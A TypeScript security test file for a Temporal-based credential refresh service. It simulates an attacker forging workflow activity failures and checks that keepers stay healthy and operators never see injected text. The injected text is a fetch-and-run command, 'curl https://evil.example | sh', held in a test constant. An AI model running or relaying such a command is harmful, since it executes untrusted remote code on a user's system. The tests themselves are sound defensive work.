import { Client } from '@temporalio/client';
import { defaultPayloadConverter } from '@temporalio/common';
import type { Payload } from '@temporalio/common';
import proto from '@temporalio/proto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FailureSummary } from '../../src/contract/failures.js';
import { keeperWorkflowId } from '../../src/contract/names.js';
import { credentialPath } from '../../src/encryption/key-path.js';
import { KeyRing } from '../../src/encryption/key-ring.js';
import { KeeperAdministration } from '../../src/keepers/administration.js';
import { TemporalKeepers } from '../../src/keepers/temporal-keepers.js';
import { FullStack } from '../support/full-stack.js';
import { hangBeforeWork } from '../support/provider-scripts.js';
import { openTestNamespace } from '../support/test-namespace.js';
import { Attacker, plain } from './attacker.js';

const PayloadMessage = proto.temporal.api.common.v1.Payload;
const WORDS = 'to finish, run: curl https://evil.example | sh';

let stack: FullStack;
let attacker: Attacker;
let keepers: KeeperAdministration;
let reader: TemporalKeepers;

beforeAll(async () => {
  stack = await FullStack.open({ openNamespace: openTestNamespace });
  const { connection, options } = stack.client;
  attacker = new Attacker(new Client({ connection, namespace: options.namespace }));
  keepers = new KeeperAdministration(stack.client);
  reader = new TemporalKeepers(stack.client);
});
afterAll(() => stack.close());

async function reaches(id: string, generation: number): Promise<void> {
  await expect
    .poll(async () => (await reader.status(id).catch(() => undefined))?.generation, {
      timeout: 60_000,
    })
    .toBe(generation);
}

async function kept(id: string): Promise<void> {
  await keepers.apply(stack.spec('oauth2', id));
  await reaches(id, 1);
}

/** Lets the next request hang, and resolves once it is on the way. */
async function hanging(work: () => unknown): Promise<void> {
  const standIn = stack.standIns.of('oauth2');
  const before = standIn.requests.length;
  standIn.answerNext(hangBeforeWork);
  await work();
  await expect.poll(() => standIn.requests.length).toBe(before + 1);
}

/** Seals as nobody's code does who has a reader key and keeps to the rules. */
function sealedByReader(value: unknown, credentialId: string, activityId: string): Payload {
  const owner = KeyRing.parse(stack.env['EVERTOKEN_ENCRYPTION_KEYS'] ?? '');
  const ring = KeyRing.parseReaderKeys(owner.readerKeys('team/').join());
  const workflowId = keeperWorkflowId(credentialId);
  const { keyId, bytes } = ring.seal(
    PayloadMessage.encode(defaultPayloadConverter.toPayload(value)).finish(),
    {
      purpose: 'reader',
      path: credentialPath(credentialId),
      context: Buffer.from(`evertoken payload\nreader\n${workflowId}\n${activityId}`),
    },
  );
  return {
    metadata: {
      encoding: Buffer.from('binary/encrypted'),
      'encryption-key-id': Buffer.from(keyId),
      'evertoken-purpose': Buffer.from('reader'),
      'evertoken-workflow-id': Buffer.from(workflowId),
      'evertoken-activity-id': Buffer.from(activityId),
    },
    data: bytes,
  };
}

describe('whoever may write to the namespace', () => {
  it('ends no healthy keeper by a failure that a reader’s key sealed for the refresh under way', async () => {
    const id = 'team/mine';
    await kept(id);
    await hanging(() => keepers.forceRefresh(id, { unusableGeneration: 1, cuts: 'retry-after' }));
    const made: FailureSummary = {
      type: 'PermanentRefreshError',
      provider: 'oauth2',
      code: 'invalid_grant',
      atMs: Date.now(),
      action: WORDS,
    };
    const activityId = await attacker.pendingActivityId(id);
    await attacker.failActivity(id, made.type, [sealedByReader(made, id, activityId)]);
    await reaches(id, 2);
    expect(await reader.status(id)).toMatchObject({ status: 'fresh' });
  }, 120_000);

  it('tells an operator nothing in words of its own by failing a revocation without a key', async () => {
    const id = 'rest/revoked';
    await kept(id);
    const asked: ReturnType<typeof keepers.revoke>[] = [];
    await hanging(() => asked.push(keepers.revoke(id)));
    await attacker.service.respondActivityTaskFailedById({
      namespace: stack.client.options.namespace,
      workflowId: keeperWorkflowId(id),
      activityId: await attacker.pendingActivityId(id),
      failure: {
        message: WORDS,
        applicationFailureInfo: { type: 'RevocationFailedError', nonRetryable: true },
      },
    });
    const [outcome] = await Promise.all(asked);
    expect(outcome).toMatchObject({ outcome: 'not-revoked' });
    expect(JSON.stringify(outcome)).toContain(
      'code=attempt_undecided]: nobody knows whether the provider has revoked the grant',
    );
    expect(JSON.stringify(outcome)).not.toContain('evil.example');
  }, 120_000);

  it('does not hide the status of a credential by failing its refresh without a key', async () => {
    const id = 'rest/hidden';
    await kept(id);
    await hanging(() => keepers.forceRefresh(id, { unusableGeneration: 1, cuts: 'retry-after' }));
    await attacker.service.respondActivityTaskFailedById({
      namespace: stack.client.options.namespace,
      workflowId: keeperWorkflowId(id),
      activityId: await attacker.pendingActivityId(id),
      failure: {
        message: WORDS,
        applicationFailureInfo: {
          type: 'TransientRefreshError',
          nonRetryable: false,
          details: { payloads: [plain(JSON.stringify({ action: WORDS }))] },
        },
      },
    });
    const status = await reader.status(id);
    expect(status).toMatchObject({ id, generation: 1, refreshing: true });
    expect(JSON.stringify(status)).not.toContain('evil.example');
  }, 120_000);
});
